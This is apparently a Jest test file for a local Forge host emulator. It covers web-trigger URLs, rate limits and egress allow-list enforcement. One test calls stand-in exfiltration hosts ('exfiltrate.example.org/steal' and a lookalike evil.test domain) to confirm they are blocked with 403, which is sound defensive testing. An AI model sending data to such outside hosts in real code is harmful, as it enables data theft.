import { webTrigger, fetch as forgeFetch, permissions } from '@forge/api';
import { startProbeHost } from '../support/probe-host';

describe('web triggers and egress on the local Forge host', () => {
  let env: Awaited<ReturnType<typeof startProbeHost>>;
  beforeEach(async () => {
    env = await startProbeHost();
  });
  afterEach(() => env.host.close());

  const urlFor = (inst = env.a, forceCreate = false) => env.host.runInInvocation(inst, () => webTrigger.getUrl('probe-hook', forceCreate));

  it('gives a stable URL per installation and module, and a new one on forceCreate', async () => {
    const first = await urlFor();
    expect(first).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/x1\/[0-9a-f]{32}$/);
    expect(await urlFor()).toBe(first);
    expect(await urlFor(env.b)).not.toBe(first);
    const fresh = await urlFor(env.a, true);
    expect(fresh).not.toBe(first);
    const listed = await env.host.runInInvocation(env.a, () => webTrigger.queryUrls('probe-hook'));
    expect(listed.map((u) => u.url).sort()).toEqual([first, fresh].sort());
  });

  it('counts getUrl and refuses it past 1,000 a minute per installation, as Forge limits it', async () => {
    await urlFor();
    const calls = Array.from({ length: 999 }, () => urlFor());
    await Promise.all(calls);
    await expect(urlFor()).rejects.toThrow(/Failed to get web trigger URL/);
    // Another installation has its own allowance.
    await expect(urlFor(env.b)).resolves.toMatch(/\/x1\//);
    const logged = env.host.log.of('web-trigger-url').filter((e) => e.installationId === env.a.id);
    expect(logged.filter((e) => e.status === 200)).toHaveLength(1000);
    expect(logged.filter((e) => e.status === 429)).toHaveLength(1);
  });

  it('invokes the function over loopback HTTP with the Forge request shape and returns its response', async () => {
    const url = await urlFor();
    const response = await fetch(`${url}/extra/path?x=1&x=2`, { method: 'POST', headers: { 'X-Custom': 'v' }, body: '{"hello":"peer"}' });
    expect(response.status).toBe(202);
    expect(response.headers.get('x-probe')).toBe('yes');
    const { received, moduleKey } = await response.json();
    expect(moduleKey).toBe('probe-hook');
    expect(received).toMatchObject({
      method: 'POST',
      userPath: '/extra/path',
      queryParameters: { x: ['1', '2'] },
      body: '{"hello":"peer"}',
    });
    expect(received.headers['x-custom']).toEqual(['v']);
  });

  it('answers 500 when the function returns something that is not a web-trigger response', async () => {
    const url = await urlFor();
    const response = await fetch(`${url}?bad=1`, { method: 'POST', body: '' });
    expect(response.status).toBe(500);
  });

  it('stops invoking the function once the URL is deleted', async () => {
    const url = await urlFor();
    await env.host.runInInvocation(env.a, () => webTrigger.deleteUrl(url));
    expect((await fetch(url, { method: 'POST' })).status).toBe(404);
  });

  it('lets app code fetch a peer web trigger, which the manifest egress allows', async () => {
    const peerUrl = await urlFor(env.b);
    const response = await env.host.runInInvocation(env.a, () => forgeFetch(peerUrl, { method: 'POST', body: 'from A' }));
    expect(response.status).toBe(202);
    expect((await response.json()).received.body).toBe('from A');
    expect(env.host.log.of('egress')).toEqual([expect.objectContaining({ allowed: true })]);
  });

  it('answers the 101st egress fetch of one invocation within a minute with 429 FETCH_LIMIT_EXCEEDED, and another invocation has its own allowance', async () => {
    const peerUrl = await urlFor(env.b);
    const statuses = await env.host.runInInvocation(env.a, async () => {
      const answers = await Promise.all(Array.from({ length: 101 }, () => forgeFetch(peerUrl, { method: 'POST', body: 'x' })));
      return answers.map((r) => [r.status, r.headers.get('forge-proxy-error')]);
    });
    expect(statuses.filter(([status]) => status === 202)).toHaveLength(100);
    expect(statuses.filter(([status]) => status === 429)).toEqual([[429, 'FETCH_LIMIT_EXCEEDED']]);
    expect((await env.host.runInInvocation(env.a, () => forgeFetch(peerUrl, { method: 'POST', body: 'y' }))).status).toBe(202);
  });

  it('answers a fetch to a host outside the egress list with 403, as Forge does, before any request leaves', async () => {
    const outside = await env.host.runInInvocation(env.a, () => forgeFetch('https://exfiltrate.example.org/steal'));
    expect(outside.status).toBe(403);
    const global = await env.host.runInInvocation(env.a, () => fetch('http://127.0.0.1:9/not-a-web-trigger'));
    expect(global.status).toBe(403);
    // A lookalike of a declared host is another host.
    const lookalike = await env.host.runInInvocation(env.a, () => fetch('https://api.allowed.example.evil.test/x'));
    expect(lookalike.status).toBe(403);
    expect(env.host.log.of('egress').map((e) => e.allowed)).toEqual([false, false, false]);
    expect(await env.host.runInInvocation(env.a, async () => permissions.canFetchFrom('backend', 'https://api.allowed.example/x'))).toBe(true);
  });
});
